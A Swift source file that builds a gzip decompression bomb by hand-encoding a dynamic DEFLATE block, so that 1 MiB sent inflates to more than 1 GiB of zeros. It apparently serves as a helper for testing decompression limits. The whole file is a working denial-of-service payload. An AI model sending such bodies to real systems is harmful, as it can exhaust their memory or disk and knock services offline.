/// A gzip body whose every byte becomes 1032 zeros: one dynamic block (RFC 1951, section 3.2.7), whose code for "258 bytes
/// like the one before" is two zero bits.
enum Bomb {
    /// - Parameter size: bytes as sent; 1 MiB becomes more than 1 GiB.
    static func gzip(_ size: Int) -> [UInt8] {
        var bits = Bits()
        // The last block, and dynamic.
        bits.append(1, 1)
        bits.append(2, 2)
        // 286 codes of literals and lengths, 1 of distances, 18 lengths of code lengths.
        bits.append(29, 5)
        bits.append(0, 5)
        bits.append(14, 4)
        // In the order 16 17 18 0 8 7 9 6 10 5 11 4 12 3 13 2 14 1: of 18 one bit, of 2 and 1 two bits each.
        for symbol in [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1] {
            bits.append(symbol == 18 ? 1 : symbol == 1 || symbol == 2 ? 2 : 0, 3)
        }
        // Literal 0 has two bits, 1 to 255 none, the end of the block two, the lengths up to 284 none.
        bits.appendCode([1, 1])
        bits.zeros(138)
        bits.zeros(117)
        bits.appendCode([1, 1])
        bits.zeros(28)
        // Length 258 has one bit, distance 1 has one.
        bits.appendCode([1, 0])
        bits.appendCode([1, 0])
        // A first zero to copy.
        bits.appendCode([1, 0])
        let head: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3]
        return head + bits.bytes + [UInt8](repeating: 0, count: size)
    }

    private struct Bits {
        var bytes: [UInt8] = []
        private var count = 0

        mutating func append(_ value: Int, _ width: Int) {
            for bit in 0..<width {
                if count % 8 == 0 { bytes.append(0) }
                bytes[bytes.count - 1] |= UInt8((value >> bit) & 1) << UInt8(count % 8)
                count += 1
            }
        }

        mutating func appendCode(_ bits: [Int]) { for bit in bits { append(bit, 1) } }

        /// Code 18: 11 to 138 zeros.
        mutating func zeros(_ number: Int) {
            appendCode([0])
            append(number - 11, 7)
        }
    }
}
